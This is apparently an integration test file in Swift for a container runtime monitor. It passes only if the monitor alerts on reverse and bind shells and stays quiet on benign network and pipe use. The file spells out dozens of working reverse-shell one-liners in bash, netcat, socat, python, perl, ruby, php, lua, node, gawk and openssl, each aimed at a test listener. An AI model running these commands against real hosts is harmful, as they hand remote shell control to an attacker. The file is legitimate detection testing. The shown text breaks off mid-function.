// SPDX-License-Identifier: Apache-2.0
// The "must show" of reverse-shell detection, live: each common technique run inside a runc
// container reaches a listener on 198.51.100.1 that sends `id` and must get `uid=` back (the shell
// really worked), and the real monitor must write exactly one `reverse-shell` alert for that
// connection, attributed to the container. Benign network and pipe use must write none. Root only.

import Foundation
import XCTest

final class ReverseShellLiveTests: XCTestCase {
    static let attacker = TestNetwork.addressA
    /// Shared by every test of the class (see `ReverseShellLiveScene`); torn down in `tearDown()` (class).
    nonisolated(unsafe) private static var scene: ReverseShellLiveScene?
    /// Ports used by reverse-shell techniques, so a late alert of one is never blamed on a control.
    nonisolated(unsafe) private static var techniquePorts: Set<Int> = []

    override func setUpWithError() throws {
        try requireRoot("reverse shell live tests")
        try requireTools([(RuncContainer.runc, "runc"), (BusyboxRootfs.busybox, "busybox-static"),
                          (NetnsListener.python, "python3"), (TestNetwork.ip, "iproute2"),
                          ("/usr/bin/bash", "bash"), ("/usr/bin/perl", "perl-base"),
                          ("/usr/bin/socat", "socat"), ("/usr/bin/ncat", "ncat"), ("/usr/bin/nc.openbsd", "netcat-openbsd"),
                          ("/usr/bin/gawk", "gawk"), ("/usr/bin/node", "nodejs"), ("/usr/bin/openssl", "openssl"),
                          ("/usr/bin/script", "bsdutils"), ("/usr/bin/ruby", "ruby"), ("/usr/bin/php8.2", "php-cli"),
                          ("/usr/bin/lua5.4", "lua5.4")])
        if Self.scene == nil { Self.scene = try ReverseShellLiveScene() }
    }

    override class func tearDown() {
        scene?.tearDown()
        scene = nil
        super.tearDown()
    }

    private var scene: ReverseShellLiveScene {
        get throws {
            guard let scene = Self.scene else { throw HarnessError("reverse shell scene not started") }
            return scene
        }
    }

    // MARK: - Techniques: each must alert exactly once

    func testBusyboxNetcatExecShell() throws {
        try assertReverseShell { ["nc", Self.attacker, "\($0)", "-e", "/bin/sh"] }
    }

    func testBusyboxNetcatExecBash() throws {
        try assertReverseShell { ["nc", Self.attacker, "\($0)", "-e", "/usr/bin/bash"] }
    }

    func testNcatExec() throws {
        try assertReverseShell { ["/usr/bin/ncat", Self.attacker, "\($0)", "-e", "/bin/sh"] }
    }

    func testNcatShExec() throws {
        try assertReverseShell { ["/usr/bin/ncat", "--sh-exec", "sh -i", Self.attacker, "\($0)"] }
    }

    func testSocatExec() throws {
        try assertReverseShell { ["/usr/bin/socat", "TCP:\(Self.attacker):\($0)", "EXEC:/bin/sh"] }
    }

    func testSocatExecBashOnPty() throws {
        try assertReverseShell { ["/usr/bin/socat", "TCP:\(Self.attacker):\($0)", "EXEC:/usr/bin/bash -li,pty,stderr,setsid"] }
    }

    func testSocatSystem() throws {
        try assertReverseShell { ["/usr/bin/socat", "TCP:\(Self.attacker):\($0)", "SYSTEM:sh"] }
    }

    func testBashDevTcpRedirection() throws {
        try assertReverseShell { ["/usr/bin/bash", "-c", "bash -i >& /dev/tcp/\(Self.attacker)/\($0) 0>&1"] }
    }

    func testShOnDevUdpRedirection() throws {
        try assertReverseShell(transport: .udp) { ["/usr/bin/bash", "-c", "sh -i >& /dev/udp/\(Self.attacker)/\($0) 0>&1"] }
    }

    /// GNU cat, not the rootfs's busybox cat: busybox copies with sendfile(2), which on a socket
    /// input blocks until EOF, so `id` would never reach the loop (the listener got 0 bytes).
    func testBashDevTcpReadLoop() throws {
        try assertReverseShell { port in
            ["/usr/bin/bash", "-c", "exec 5<>/dev/tcp/\(Self.attacker)/\(port); /usr/bin/cat <&5 | while read l; do $l 2>&5 >&5; done"]
        }
    }

    func testPythonDupAndSubprocessShell() throws {
        try assertReverseShell { port in
            ["/usr/bin/python3", "-c", """
            import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("\(Self.attacker)",\(port)));\
            os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])
            """]
        }
    }

    func testPythonDupAndExecv() throws {
        try assertReverseShell { port in
            ["/usr/bin/python3", "-c", """
            import socket,os;s=socket.create_connection(("\(Self.attacker)",\(port)));[os.dup2(s.fileno(),f) for f in (0,1,2)];\
            os.execv("/bin/sh",["sh","-i"])
            """]
        }
    }

    func testPythonPtySpawn() throws {
        try assertReverseShell(shellNamed: "sh") { port in
            ["/usr/bin/python3", "-c", """
            import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("\(Self.attacker)",\(port)));\
            [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")
            """]
        }
    }

    func testPerlSocketExec() throws {
        try assertReverseShell { port in
            ["/usr/bin/perl", "-e", """
            use Socket;$i="\(Self.attacker)";$p=\(port);socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\
            if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};
            """]
        }
    }

    /// perl's stdin/stdout become the socket (IO::Socket + fdopen) and perl runs each received line
    /// itself (`system`, no shell for a plain word): the interpreter is the shell.
    func testPerlIOSocketCommandLoop() throws {
        try assertReverseShell { port in
            ["/usr/bin/perl", "-MIO::Socket::INET", "-e", """
            $c=IO::Socket::INET->new(PeerAddr=>"\(Self.attacker):\(port)") or exit 1;STDIN->fdopen($c,"r");$~->fdopen($c,"w");            STDOUT->fdopen($c,"w");STDOUT->autoflush(1);while(<STDIN>){chomp;system($_);}
            """]
        }
    }

    /// A python one-liner that never touches its own stdio: it receives commands on its socket, runs
    /// each through a shell with the output captured on a pipe, and sends the output back.
    func testPythonCommandLoopWithCapturedOutput() throws {
        try assertReverseShell { port in
            ["/usr/bin/python3", "-c", """
            import socket,subprocess
            s=socket.create_connection(("\(Self.attacker)",\(port)),5)
            while True:
                d=s.recv(1024)
                if not d: break
                s.sendall(subprocess.run(d.decode(),shell=True,capture_output=True).stdout)
            """]
        }
    }

    func testMkfifoNetcatPipeline() throws {
        try assertReverseShell(shellNamed: "sh") { port in
            ["sh", "-c", "rm -f /tmp/f\(port); mkfifo /tmp/f\(port); cat /tmp/f\(port) | /bin/sh -i 2>&1 | nc \(Self.attacker) \(port) > /tmp/f\(port)"]
        }
    }

    func testMknodShellReadsFifoPipeline() throws {
        try assertReverseShell(shellNamed: "sh") { port in
            ["sh", "-c", "rm -f /tmp/p\(port); mknod /tmp/p\(port) p && /bin/sh 0</tmp/p\(port) | nc \(Self.attacker) \(port) 1>/tmp/p\(port)"]
        }
    }

    func testBusyboxTelnetFifoPipeline() throws {
        try assertReverseShell(shellNamed: "sh") { port in
            ["sh", "-c", "rm -f /tmp/t\(port); mkfifo /tmp/t\(port); telnet \(Self.attacker) \(port) < /tmp/t\(port) | /bin/sh > /tmp/t\(port) 2>&1"]
        }
    }

    func testOpensslTlsFifoPipeline() throws {
        let scene = try self.scene
        try assertReverseShell(transport: .tls(certificate: scene.tlsCertificate, key: scene.tlsKey), shellNamed: "sh") { port in
            ["sh", "-c", "rm -f /tmp/s\(port); mkfifo /tmp/s\(port); /bin/sh -i < /tmp/s\(port) 2>&1 | "
             + "OPENSSL_CONF=/dev/null /usr/bin/openssl s_client -quiet -connect \(Self.attacker):\(port) > /tmp/s\(port)"]
        }
    }

    /// busybox `sh -c id` execs `id` at once: capture often reads the command as `id`, in part (no
    /// parent, no descriptors) or not at all. The loop is judged from the state's record (parent from
    /// the fork) and named after gawk, whatever order the connect and the execs arrive in.
    func testGawkInetCommandLoop() throws {
        try assertReverseShell(shellNamed: "gawk") { port in
            ["/usr/bin/gawk", "BEGIN{s=\"/inet/tcp/0/\(Self.attacker)/\(port)\";while((s|&getline c)>0){while((c|getline l)>0)print l|&s;close(c)};close(s)}"]
        }
    }

    /// perl's `open(my $p, "-|", $cmd)`: a plain word is exec'd without a shell (popen with no
    /// `sh -c`); its output comes back on a pipe only perl holds. Named after perl.
    func testPerlPopenCommandLoop() throws {
        try assertReverseShell(shellNamed: "perl") { port in
            ["/usr/bin/perl", "-MIO::Socket::INET", "-e", """
            $c=IO::Socket::INET->new(PeerAddr=>"\(Self.attacker):\(port)") or exit 1;\
            while(<$c>){chomp;open(my $p,"-|",$_) or next;print {$c} <$p>;close $p}
            """]
        }
    }

    /// python's `os.popen(cmd)` (through `sh -c`), the command text straight from the socket.
    func testPythonOsPopenCommandLoop() throws {
        try assertReverseShell(shellNamed: "python3") { port in
            ["/usr/bin/python3", "-c", """
            import socket,os
            s=socket.create_connection(("\(Self.attacker)",\(port)),5)
            while True:
                d=s.recv(1024)
                if not d: break
                s.sendall(os.popen(d.decode()).read().encode())
            """]
        }
    }

    /// ruby's `IO.popen("id")` execs the command directly (no shell).
    func testRubyIOPopenCommandLoop() throws {
        try assertReverseShell(shellNamed: "ruby") { port in
            ["/usr/bin/ruby", "-rsocket", "-e",
             "s=TCPSocket.new(\"\(Self.attacker)\",\(port));while(l=s.gets);s.write(IO.popen(l.chomp).read);end"]
        }
    }

    /// php's `shell_exec` (`sh -c`), on a socket from `fsockopen`. By its versioned path: /usr/bin/php
    /// goes through /etc/alternatives, which the container does not have.
    func testPhpShellExecCommandLoop() throws {
        try assertReverseShell(shellNamed: "php8.2") { port in
            ["/usr/bin/php8.2", "-r", "$s=fsockopen(\"\(Self.attacker)\",\(port));while(($c=fgets($s))!==false){fwrite($s,(string)shell_exec($c));}"]
        }
    }

    /// lua with luasocket, `io.popen(cmd):read("a")` (`sh -c`).
    func testLuaPopenCommandLoop() throws {
        guard FileManager.default.fileExists(atPath: "/usr/share/lua/5.4/socket.lua") else {
            throw HarnessError("luasocket for lua 5.4 is missing: apt-get install lua-socket")
        }
        try assertReverseShell(shellNamed: "lua5.4") { port in
            ["/usr/bin/lua5.4", "-e", "local s=require(\"socket\").tcp();assert(s:connect(\"\(Self.attacker)\",\(port)));"
             + "while true do local c=s:receive(\"*l\");if not c then break end;local p=io.popen(c);s:send(p:read(\"a\"));p:close() end"]
        }
    }

    /// node's `child_process.execSync(cmd)` (`sh -c`, output captured on a pipe node holds), in a
    /// loop on each line the connection sends.
    func testNodeExecSyncCommandLoop() throws {
        try assertReverseShell(shellNamed: "node") { port in
            ["/usr/bin/node", "-e", "const cp=require(\"child_process\");const c=require(\"net\").connect(\(port),\"\(Self.attacker)\");"
             + "c.on(\"data\",d=>{for(const l of d.toString().split(\"\\n\")){if(l)c.write(cp.execSync(l))}});c.on(\"error\",()=>process.exit(1))"]
        }
    }

    /// perl backticks: a plain word is exec'd without a shell, its output read back by perl.
    func testPerlBackticksCommandLoop() throws {
        try assertReverseShell(shellNamed: "perl") { port in
            ["/usr/bin/perl", "-MIO::Socket::INET", "-e",
             "$c=IO::Socket::INET->new(PeerAddr=>\"\(Self.attacker):\(port)\") or exit 1;while(<$c>){chomp;print {$c} `$_`}"]
        }
    }

    func testNodeSpawnPipedToSocket() throws {
        try assertReverseShell(shellNamed: "sh") { port in
            ["/usr/bin/node", "-e", """
            const sh=require("child_process").spawn("/bin/sh",[]);const c=require("net").connect(\(port),"\(Self.attacker)",()=>{\
            c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)});c.on("error",()=>process.exit(1));sh.on("exit",()=>c.destroy())
            """]
        }
    }

    /// A host process (not in any container) in namespace B: the alert says `container.id` = host.
    func testHostProcessInNetworkNamespaceAlertsAsHost() throws {
        try assertReverseShell(onHost: true) { port in
            ["/usr/bin/python3", "-c", """
            import socket,os;s=socket.create_connection(("\(Self.attacker)",\(port)));[os.dup2(s.fileno(),f) for f in (0,1,2)];\
            os.execv("/bin/sh",["sh","-i"])
            """]
        }
    }

    // MARK: - Bind shells: inbound, told apart from reverse shells

    /// `nc -lp P -e /bin/sh` in the container; the attacker (namespace A) connects in and gets `id`
    /// answered. Exactly one `bind-shell` alert (Critical) naming the attacker as the peer, and no
    /// `reverse-shell` alert for it.
    /// The port is outside the ephemeral range: busybox nc closes its listener at accept, so only
    /// the port tells the accepted socket from one it connected.
    func testBusyboxNetcatListenExecIsABindShell() throws {
        let scene = try self.scene
        let port = Int.random(in: 20_000...32_000)
        let before = try scene.monitor.alerts().count
        _ = try scene.container.execDetached(["nc", "-lp", "\(port)", "-e", "/bin/sh"], outputPath: scene.scratch.at("bind-\(port).out"))
        let client = try connectIn(from: scene.network.namespaceA, to: TestNetwork.addressB, port: port)
        XCTAssertTrue(client.stdout.contains("uid=0(root)"), "the bind shell answered id: \(client)")
        let mine: ([EndToEndAlert]) -> [EndToEndAlert] = {
            $0.dropFirst(before).filter { $0.containerID == scene.shortContainerID && $0.remoteAddress == Self.attacker
                && ($0.ruleID == "bind-shell" || $0.ruleID == "reverse-shell") && !Self.techniquePorts.contains($0.remotePort ?? -1) }
        }
        _ = try scene.monitor.waitForAlerts(timeout: .seconds(10)) { !mine($0).isEmpty }
        Thread.sleep(forTimeInterval: 3)
        let alerts = mine(try scene.monitor.alerts())
        let every = try scene.monitor.alerts().dropFirst(before)
        XCTAssertEqual(alerts.map(\.ruleID), ["bind-shell"], "every new alert:\n"
                       + every.map(\.reverseShellSummary).joined(separator: "\n")
                       + "\nlog tail:\n\(scene.monitor.log.suffix(1500))")
        XCTAssertEqual(alerts.first?.raw["priority"] as? String, "Critical")
        XCTAssertNotNil(alerts.first?.remotePort, "the alert names the peer's port")
    }

    /// An inetd-style service on the host (namespace B, no container): it accepts a connection,
    /// puts it on a shell script's stdio and runs the script. Never a reverse shell; a bind-shell
    /// Warning that names the peer (allowlistable by executable).
    func testHostInetdStyleServiceIsNotAReverseShell() throws {
        let scene = try self.scene
        let port = Int.random(in: 20_000...60_000)
        let before = try scene.monitor.alerts().count
        let service = """
        import os,socket,sys
        s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(("198.51.100.2",int(sys.argv[1])));s.listen(1)
        s.settimeout(15);c,_=s.accept()
        if os.fork()==0:
            [os.dup2(c.fileno(),f) for f in (0,1,2)]
            os.execv("/usr/bin/bash",["bash","-c","read l; id; read l"])
        os.wait()
        """
        let output = scene.scratch.at("inetd-\(port).out")
        let server = Process()
        server.executableURL = URL(fileURLWithPath: TestNetwork.ip)
        server.arguments = ["netns", "exec", scene.network.namespaceB, NetnsListener.python, "-c", service, "\(port)"]
        FileManager.default.createFile(atPath: output, contents: nil)
        server.standardOutput = FileHandle(forWritingAtPath: output)
        server.standardError = FileHandle(forWritingAtPath: output)
        try server.run()
        defer { if server.isRunning { server.terminate() }; server.waitUntilExit() }
        let client = try connectIn(from: scene.network.namespaceA, to: TestNetwork.addressB, port: port)
        XCTAssertTrue(client.stdout.contains("uid=0(root)"), "the service's script ran: \(client) \(CommandRunner.readCapped(output))")
        let mine: ([EndToEndAlert]) -> [EndToEndAlert] = {
            $0.dropFirst(before).filter { $0.containerID == "host" && $0.remoteAddress == Self.attacker
                && ($0.ruleID == "bind-shell" || $0.ruleID == "reverse-shell") }
        }
        _ = try scene.monitor.waitForAlerts(timeout: .seconds(10)) { !mine($0).isEmpty }
        Thread.sleep(forTimeInterval: 3)
        let alerts = mine(try scene.monitor.alerts())
        let every = try scene.monitor.alerts().dropFirst(before)
        XCTAssertEqual(alerts.map(\.ruleID), ["bind-shell"], "every new alert:\n"
                       + every.map(\.reverseShellSummary).joined(separator: "\n")
                       + "\nlog tail:\n\(scene.monitor.log.suffix(1500))")
        XCTAssertEqual(alerts.first?.raw["priority"] as? String, "Warning")
    }

    /// Connects from `namespace` to `address:port` (retrying for up to 10 s while the listener
    /// starts), sends `id`, and returns what came back within 5 s. Like an attacker's session, it
    /// stays a second after the answer: a shell that is gone within a millisecond of its exec has
    /// nothing left in /proc to read (its descriptors close as it exits).
    private func connectIn(from namespace: String, to address: String, port: Int) throws -> CommandResult {
        let client = """
        import socket,sys,time
        end=time.monotonic()+10
        while True:
            try:
                c=socket.create_connection((sys.argv[1],int(sys.argv[2])),2);break
            except OSError:
                if time.monotonic()>end: raise
                time.sleep(0.1)
        c.sendall(b"id\\n");c.settimeout(5);out=b""
        try:
            while b"uid=" not in out or not out.endswith(b"\\n"):
                d=c.recv(4096)
                if not d: break
                out+=d
        except socket.timeout:
            pass
        time.sleep(1)
        c.close();print(out.decode("utf-8","replace"))
        """
        return try CommandRunner.run([TestNetwork.ip, "netns", "exec", namespace, NetnsListener.python, "-c", client, address, "\(port)"],
                                     timeout: .seconds(20))
    }

    // MARK: - Benign controls: none may alert (and the monitor must have seen each one run)

    func testBenignPortCheckDoesNotAlert() throws {
        try assertNoReverseShell(listening: true) { port, mark in
            let check = try self.scene.container.exec(["sh", "-c", "/usr/bin/nc.openbsd -z -w 2 \(Self.attacker) \(port) # \(mark)"],
                                                      timeout: .seconds(10))
            XCTAssertEqual(check.status, 0, "port check reached the listener: \(check)")
        }
    }

    func testBenignPlainNetcatClientDoesNotAlert() throws {
        try assertNoReverseShell(listening: true) { port, mark in
            let client = try self.scene.container.exec(["sh", "-c", "echo hi | nc \(Self.attacker) \(port) # \(mark)"], timeout: .seconds(10))
            XCTAssertFalse(client.timedOut, "\(client)")
            XCTAssertTrue(client.stdout.hasPrefix("id"), "the client printed what the listener sent: \(client)")
        }
    }

    func testBenignShellPipelineDoesNotAlert() throws {
        try assertNoReverseShell(listening: false) { _, mark in
            let run = try self.scene.container.exec(["sh", "-c", "echo a | cat | wc -c # \(mark)"], timeout: .seconds(10))
            XCTAssertEqual(run.stdout.trimmingCharacters(in: .whitespacesAndNewlines), "2", "\(run)")
        }
    }

    func testBenignShellOnUnixSocketPairDoesNotAlert() throws {
        try assertNoReverseShell(listening: false) { _, mark in
            let run = try self.scene.container.exec(["/usr/bin/python3", "-c", """
            # \(mark)
            import socket,subprocess
            a,b=socket.socketpair()
            p=subprocess.Popen(["/bin/sh"],stdin=b,stdout=b,stderr=b)
            b.close()
            a.sendall(b"id\\nexit\\n")
            a.settimeout(5)
            out=b""
            while len(out)<65536:
                c=a.recv(4096)
                if not c: break
                out+=c
            p.wait(5)
            print(out.decode())
            """], timeout: .seconds(15))
            XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the shell on the unix socket ran id: \(run)")
        }
    }

    func testBenignDownloadPipedToShellWithFileOutputDoesNotAlert() throws {
        try assertNoReverseShell(listening: true) { port, mark in
            let fetch = #"import socket;s=socket.create_connection(("\#(Self.attacker)",\#(port)),5);print(s.recv(100).decode().strip())"#
            let run = try self.scene.container.exec(["sh", "-c", "/usr/bin/python3 -c '\(fetch)' | sh > /tmp/out\(port) 2>&1; cat /tmp/out\(port) # \(mark)"],
                                                    timeout: .seconds(15))
            XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the downloaded `id` ran with output to a file: \(run)")
        }
    }

    func testBenignPythonPlainRequestDoesNotAlert() throws {
        try assertNoReverseShell(listening: true) { port, mark in
            let request = #"import socket;s=socket.create_connection(("\#(Self.attacker)",\#(port)),5);s.sendall(b"GET / HTTP/1.0\r\n\r\n");print(s.recv(100).decode().strip())"#
            let run = try self.scene.container.exec(["/usr/bin/python3", "-c", request + " # \(mark)"], timeout: .seconds(15))
            XCTAssertEqual(run.stdout.trimmingCharacters(in: .whitespacesAndNewlines), "id", "\(run)")
        }
    }

    /// `kubectl exec -it`: an interactive shell on a terminal (here a pty from `script`), no socket.
    func testBenignInteractiveShellOnTerminalDoesNotAlert() throws {
        try assertNoReverseShell(listening: false) { _, mark in
            let run = try self.scene.container.exec(["/usr/bin/script", "-qec", "sh -ic 'id; exit' # \(mark)", "/dev/null"], timeout: .seconds(15))
            XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the shell on the pty ran id: \(run)")
        }
    }

    /// sshd's shape: a server accepts a connection on loopback and runs a shell on a pty it relays to
    /// that accepted socket (inbound, on a descriptor above 2); the client is another process. The
    /// server never connects out: quiet.
    func testBenignPtyServerAcceptingConnectionsDoesNotAlert() throws {
        let scene = try self.scene
        try assertNoReverseShell(listening: false) { _, mark in
            let server = """
            import os,pty,select,socket,sys,time
            srv=socket.socket();srv.bind(("127.0.0.1",0));srv.listen(1)
            open(sys.argv[1]+".tmp","w").write(str(srv.getsockname()[1]));os.rename(sys.argv[1]+".tmp",sys.argv[1])
            srv.settimeout(10);conn,_=srv.accept()
            pid,master=pty.fork()
            if pid==0:
                os.execv("/bin/sh",["sh"])
            end=time.monotonic()+8
            while time.monotonic()<end:
                r,_,_=select.select([conn,master],[],[],0.5)
                try:
                    if conn in r:
                        d=conn.recv(4096)
                        if not d: break
                        os.write(master,d)
                    if master in r:
                        conn.sendall(os.read(master,4096))
                except OSError:
                    break
            conn.close()
            """
            let client = """
            import os,socket,sys,time
            end=time.monotonic()+10
            while not os.path.exists(sys.argv[1]) and time.monotonic()<end: time.sleep(0.05)
            c=socket.create_connection(("127.0.0.1",int(open(sys.argv[1]).read())),5)
            c.sendall(b"id\\nexit\\n");c.settimeout(5);out=b""
            try:
                while b"uid=" not in out or not out.endswith(b"\\n"):
                    d=c.recv(4096)
                    if not d: break
                    out+=d
            except socket.timeout:
                pass
            c.close();print(out.decode("utf-8","replace"))
            """
            // The container's /tmp is its own tmpfs: write the scripts from inside.
            for (name, text) in [("server", server), ("client", client)] {
                let write = try scene.container.exec(["sh", "-c", "cat > /tmp/\(mark)-\(name).py"], timeout: .seconds(10), stdin: text)
                XCTAssertEqual(write.status, 0, "writing the \(name) script: \(write)")
            }
            let run = try scene.container.exec(["sh", "-c", "/usr/bin/python3 /tmp/\(mark)-server.py /tmp/\(mark).port & "
                                                + "/usr/bin/python3 /tmp/\(mark)-client.py /tmp/\(mark).port; wait"], timeout: .seconds(20))
            XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the shell behind the pty server ran id: \(run)")
        }
    }

    /// A node service that calls an API (the listener) and then runs a fixed command with
    /// `child_process.exec`: node holds the shell's stdin, stdout and stderr pipes and connected a
    /// moment ago, the same wiring as node's reverse shell, but the shell runs the command it was
    /// given (`sh -c …`) instead of reading commands from node. Quiet.
    func testBenignNodeServiceRunningACommandAfterAnAPICallDoesNotAlert() throws {
        let scene = try self.scene
        try assertNoReverseShell(listening: true) { port, mark in
            let app = """
            const net=require("net"),cp=require("child_process");
            const c=net.connect(\(port),"\(Self.attacker)",()=>c.write("GET /version HTTP/1.0\\r\\n\\r\\n"));
            c.on("data",d=>{cp.exec("uname -s; echo \(mark)",(e,out)=>{console.log(out.trim());c.destroy();process.exit(e?1:0)})});
            c.on("error",()=>process.exit(2));setTimeout(()=>process.exit(3),8000);
            """
            let write = try scene.container.exec(["sh", "-c", "cat > /tmp/\(mark)-app.js"], timeout: .seconds(10), stdin: app)
            XCTAssertEqual(write.status, 0, "writing the app: \(write)")
            let run = try scene.container.exec(["/usr/bin/node", "/tmp/\(mark)-app.js"], timeout: .seconds(15))
            XCTAssertEqual(run.status, 0, "the app ran its command after the API answered: \(run)")
            XCTAssertTrue(run.stdout.contains("Linux"), "\(run)")
        }
    }

    /// Launchers joining a shell to local ends only: socat's own stdio, a unix socket (socat and
    /// ncat). The shell really runs `id`; no end is a network socket, so quiet.
    func testBenignSocatStdioExecDoesNotAlert() throws {
        try assertNoReverseShell(listening: false) { _, mark in
            let run = try self.scene.container.exec(["sh", "-c", "echo id | /usr/bin/socat STDIO EXEC:/bin/sh # \(mark)"], timeout: .seconds(10))
            XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the shell behind socat's stdio ran id: \(run)")
        }
    }

    func testBenignSocatUnixListenExecDoesNotAlert() throws {
        try assertNoReverseShell(listening: false) { _, mark in
            let sock = "/tmp/\(mark).sock"
            let run = try self.scene.container.exec(["sh", "-c", "/usr/bin/socat UNIX-LISTEN:\(sock) EXEC:/bin/sh & "
                                                     + "i=0; while [ ! -S \(sock) ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done; "
                                                     + "echo id | /usr/bin/socat -t 3 - UNIX-CONNECT:\(sock); wait # \(mark)"],
                                                    timeout: .seconds(15))
            XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the shell behind the unix socket ran id: \(run)")
        }
    }

    func testBenignNcatShExecOnUnixSocketDoesNotAlert() throws {
        try assertNoReverseShell(listening: false) { _, mark in
            let sock = "/tmp/\(mark).sock"
            let run = try self.scene.container.exec(["sh", "-c", "/usr/bin/ncat -lU \(sock) --sh-exec /bin/sh & "
                                                     + "i=0; while [ ! -S \(sock) ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done; "
                                                     // ncat ends the session at the client's EOF: keep stdin open until the answer is back.
                                                     + "(echo id; sleep 1) | /usr/bin/ncat -U \(sock); wait # \(mark)"],
                                                    timeout: .seconds(15))
            XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the shell behind ncat's unix socket ran id: \(run)")
        }
    }

    /// A service script that calls an API (the listener) and then runs one `sh -c` with its output
    /// captured: the command is its own, not read from the connection. Quiet.
    func testBenignServiceScriptRunningOneCapturedCommandDoesNotAlert() throws {
        try assertNoReverseShell(listening: true) { port, mark in
            let script = """
            import socket,subprocess
            s=socket.create_connection(("\(Self.attacker)",\(port)),5);s.sendall(b"GET /config HTTP/1.0\\r\\n\\r\\n");s.recv(100);s.close()
            print(subprocess.run("uname -s; echo \(mark)",shell=True,capture_output=True,text=True).stdout.strip())
            """
            let run = try self.runScript(script, named: "\(mark)-service.py")
            XCTAssertTrue(run.stdout.contains("Linux"), "the service ran its command: \(run)")
        }
    }

    /// A CI-runner-like script: fetches a job from a server (the listener), then runs its fixed
    /// steps one after another with the output captured and reported. Quiet.
    func testBenignCIRunnerScriptDoesNotAlert() throws {
        try assertNoReverseShell(listening: true) { port, mark in
            let script = """
            import socket,subprocess
            s=socket.create_connection(("\(Self.attacker)",\(port)),5);job=s.recv(100);s.close()
            out=[]
            for step in ["echo checkout \(mark)","uname -m","ls / | wc -l"]:
                out.append(subprocess.run(["/bin/sh","-c",step],capture_output=True,text=True).stdout.strip())
            print(" | ".join(out))
            """
            let run = try self.runScript(script, named: "\(mark)-runner.py")
            XCTAssertTrue(run.stdout.contains("checkout"), "the runner ran its steps: \(run)")
        }
    }

    /// Writes a python script into the container's /tmp (its own tmpfs) and runs it.
    private func runScript(_ text: String, named name: String) throws -> CommandResult {
        let scene = try self.scene
        let write = try scene.container.exec(["sh", "-c", "cat > /tmp/\(name)"], timeout: .seconds(10), stdin: text)
        XCTAssertEqual(write.status, 0, "writing \(name): \(write)")
        return try scene.container.exec(["/usr/bin/python3", "/tmp/\(name)"], timeout: .seconds(15))
    }

    // MARK: - Helpers

    /// Starts a listener that sends `id`, runs `command(port)` in the container (detached), or on
    /// the host in namespace B when `onHost`, requires `uid=0(root)` back, then requires exactly one
    /// `reverse-shell` alert for that port (waiting up to 10 s for the first and 3 s more, past the
    /// launch and interpreter graces, for any duplicate), attributed to the container (or `host`) and
    /// the listener's address, and naming a process called `shellNamed` when given.
    private func assertReverseShell(transport: NetnsListener.Transport = .tcp, shellNamed: String? = nil, onHost: Bool = false,
                                    file: StaticString = #filePath, line: UInt = #line,
                                    _ command: (UInt16) -> [String]) throws {
        let scene = try self.scene
        let listener = try scene.network.startListener(sending: "id", timeout: .seconds(10), transport: transport)
        let port = Int(listener.port)
        Self.techniquePorts.insert(port)
        let argv = command(listener.port)
        let output = scene.scratch.at("technique-\(port).out")
        if onHost {
            try CommandRunner.run([TestNetwork.ip, "netns", "exec", scene.network.namespaceB] + argv, timeout: .seconds(15),
                                  stdoutPath: output, stderrPath: output)
        } else {
            try scene.container.execDetached(argv, outputPath: output)
        }
        let result = try listener.result()
        XCTAssertTrue(result.received.contains("uid=0(root)"),
                      "the shell answered `id` (\(argv)): \(result.received.debugDescription) output: \(CommandRunner.readCapped(output))",
                      file: file, line: line)

        let expectedContainer = onHost ? "host" : scene.shortContainerID
        let forPort: ([EndToEndAlert]) -> [EndToEndAlert] = { $0.filter { $0.remotePort == port && $0.containerID == expectedContainer } }
        _ = try scene.monitor.waitForAlerts(timeout: .seconds(10)) { !forPort($0.filter { $0.ruleID == "reverse-shell" }).isEmpty }
        Thread.sleep(forTimeInterval: 3)
        let alerts = forPort(try scene.reverseShellAlerts())
        XCTAssertEqual(alerts.count, 1, "reverse-shell alerts for port \(port) (\(argv)):\n"
                       + alerts.map(\.reverseShellSummary).joined(separator: "\n")
                       + "\nconnect events to this port in the monitor's trace: \(scene.tracedConnects(port: port))"
                       + " (0 means connect capture lost them, e.g. another runtime-watch removed the shared audit rule)"
                       + "\nlog tail:\n\(scene.monitor.log.suffix(1500))",
                       file: file, line: line)
        for alert in alerts {
            XCTAssertEqual(alert.remoteAddress, Self.attacker, "fd.rip: \(alert.reverseShellSummary)", file: file, line: line)
            if let shellNamed {
                XCTAssertEqual(alert.string("proc.name"), shellNamed, "the alert names the shell: \(alert.reverseShellSummary)", file: file, line: line)
            }
        }
        print("reverse-shell technique \(argv.joined(separator: " ")) → alerts=\(alerts.count) "
              + alerts.map(\.reverseShellSummary).joined(separator: " | "))
    }

    /// Runs `body(port, mark)` (with a listener's port when `listening`, else 0; `mark` must appear in
    /// the argv of a process the control runs), waits 4 s (the graces plus the descriptor re-reads),
    /// requires that the monitor recorded the control's exec (it was watching), and that no new
    /// `reverse-shell` alert appeared apart from late ones of technique tests (recognised by port).
    private func assertNoReverseShell(listening: Bool, file: StaticString = #filePath, line: UInt = #line,
                                      _ body: (UInt16, String) throws -> Void) throws {
        let scene = try self.scene
        let before = try scene.reverseShellAlerts().count
        let listener = listening ? try scene.network.startListener(sending: "id", timeout: .seconds(4)) : nil
        let mark = "rwmark-\(RuncContainer.randomHex(bytes: 4))"
        try body(listener?.port ?? 0, mark)
        if let listener { _ = try? listener.result() }   // a port check resets the connection: no result to read
        Thread.sleep(forTimeInterval: 4)
        XCTAssertFalse(try scene.tracedExecs(containing: mark).isEmpty,
